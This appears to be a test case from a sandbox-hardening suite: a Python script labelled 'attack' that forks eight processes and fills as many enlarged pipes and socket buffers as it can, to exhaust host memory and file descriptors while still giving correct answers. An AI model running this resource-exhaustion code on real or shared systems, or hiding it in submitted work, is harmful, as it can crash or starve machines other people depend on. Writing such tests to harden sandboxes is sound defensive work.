# /// attack
# why = "Fills as many pipes and socket buffers as it may open, as large as they can be, in eight processes; answers rightly."
# outcomes = ["passed", "crashed", "out_of_memory", "timed_out"]
# may_earn = "all"
# base = "reference"
# ///

import contextlib
import fcntl
import os
import socket
import time

ENLARGE, MIB = 1031, 1 << 20
HELD = []


def fill():
    with contextlib.suppress(OSError):
        while True:
            ends = os.pipe()
            HELD.append(ends)
            os.set_blocking(ends[1], False)
            with contextlib.suppress(OSError):
                fcntl.fcntl(ends[1], ENLARGE, MIB)
            with contextlib.suppress(BlockingIOError):
                os.write(ends[1], bytes(MIB))
            if len(HELD) > 100:
                break
        while len(HELD) < 120:
            HELD.append(socket.socketpair())
            HELD[-1][0].setblocking(False)
            HELD[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * MIB)
            with contextlib.suppress(BlockingIOError):
                HELD[-1][0].send(bytes(8 * MIB))


with contextlib.suppress(OSError):
    for _ in range(7):
        if os.fork() == 0:
            fill()
            time.sleep(3)
            os._exit(0)
fill()
for first, second in HELD:
    for end in (first, second):
        os.close(end) if isinstance(end, int) else end.close()
